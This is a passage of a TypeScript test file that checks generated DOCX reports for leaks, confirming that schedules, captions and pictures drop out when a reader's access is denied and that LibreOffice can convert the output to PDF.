      const { jobId } = await maya.ok(reportRun, { params, input: { spaceId, epsId: parentId } })
      const names = textOf(await fileOf(maya, jobId)).match(/\[S\d+\]/g) ?? []
      expect(new Set(names).size).toBe(205)
    },
    240_000,
  )

  test('a report shows nothing that its reader may not see', async () => {
    const form = await add('All', documentOf(['{#schedules}[{name}]{/} {#works}x{/}']))
    const { body: before } = await run(rita, form.id, 'docx', null)
    expect(textOf(await fileOf(rita, before.jobId))).toMatch(/x{60}/)
    await maya.ok(accessGrant, {
      params: { spaceId: ground.spaceId },
      input: { onNode: scheduleId, userId: rita.id, effect: 'deny', abilities: ['schedule.read', 'eps.read'] },
    })
    const { body } = await run(rita, form.id, 'docx', null)
    expect(textOf(await fileOf(rita, body.jobId))).not.toContain('x')
    const refused = await rita.call(versionReport, { params: { versionId, reportId: form.id }, input: {} })
    expect(refused.body.error).toBe('FORBIDDEN')

    // Pictures of a place are for who sees the place: one of the schedule was there for her before.
    const pictures = await add(
      'Seen',
      documentOf(['{#pictures}{picture | 60x40}{caption}{/}', '{#schedules}{#pictures}{caption}{/}{/}']),
    )
    const caption = 'Only for who sees the schedule'
    const kept = await maya.upload(galleryUpload, { epsId: scheduleId }, await photo(), { caption })
    expect(kept.body.error).toBeUndefined()
    const { body: shown } = await run(maya, pictures.id, 'docx', null)
    expect(textOf(await fileOf(maya, shown.jobId))).toContain(caption)
    const { body: hidden } = await run(rita, pictures.id, 'docx', null)
    const file = await fileOf(rita, hidden.jobId)
    expect(textOf(file)).not.toContain(caption)
    expect(picturesIn(file)).toEqual([])
    const stranger = await site.person('stranger')
    expect((await run(stranger, form.id, 'docx', null)).body.error).toBe('NOT_FOUND')
  })

  test('REPORT-14 a picture whose place the reader may not see is not in the report', async () => {
    const sam = await site.person('sam')
    const own = await breakGround(maya, 'Pictures of places')
    await admit(site, own.spaceId, sam, 'reader')
    const caption = 'Only for who sees the facility'
    for (const [epsId, said] of [
      [own.facilityId, caption],
      [own.scheduleId, 'Of the schedule'],
    ] as const)
      expect((await maya.upload(galleryUpload, { epsId }, await photo(), { caption: said })).body.error).toBeUndefined()
    const marks = '{#placePictures}{picture | 60x40} {caption}; {/}'
    const { body } = await addTemplate(maya, { spaceId: own.spaceId, name: 'Places' }, documentOf([marks]))
    const params = { versionId: own.versionId, reportId: body.report.id }
    const written = async (who: Visitor) => fileOf(who, (await who.ok(versionReport, { params, input: {} })).jobId)
    expect(textOf(await written(sam))).toContain(caption)
    await maya.ok(accessGrant, {
      params: { spaceId: own.spaceId },
      input: { onNode: own.facilityId, userId: sam.id, effect: 'deny', abilities: ['eps.read'] },
    })
    const file = await written(sam)
    expect(textOf(file)).not.toContain(caption)
    expect(picturesIn(file)).toEqual([])
    expect(textOf(await written(maya))).toContain(caption)
  })

  const hasOffice = process.env.SLOW !== undefined && spawnSync('soffice', ['--version']).error === undefined
  test.runIf(hasOffice)(
    'LibreOffice opens what is written',
    async () => {
      const folder = mkdtempSync(join(tmpdir(), 'report-'))
      for (const { id, kind } of masters) {
        const { jobId } = await maya.ok(versionReportMaster, { params: { versionId, masterId: id }, input: {} })
        writeFileSync(join(folder, `${id}.${kind}`), await fileOf(maya, jobId))
        spawnSync('soffice', ['--headless', '--convert-to', 'pdf', '--outdir', folder, join(folder, `${id}.${kind}`)])
        expect(
          readFileSync(join(folder, `${id}.pdf`))
            .subarray(0, 5)
            .toString(),
        ).toBe('%PDF-')
      }
    },
    300_000,
  )
})
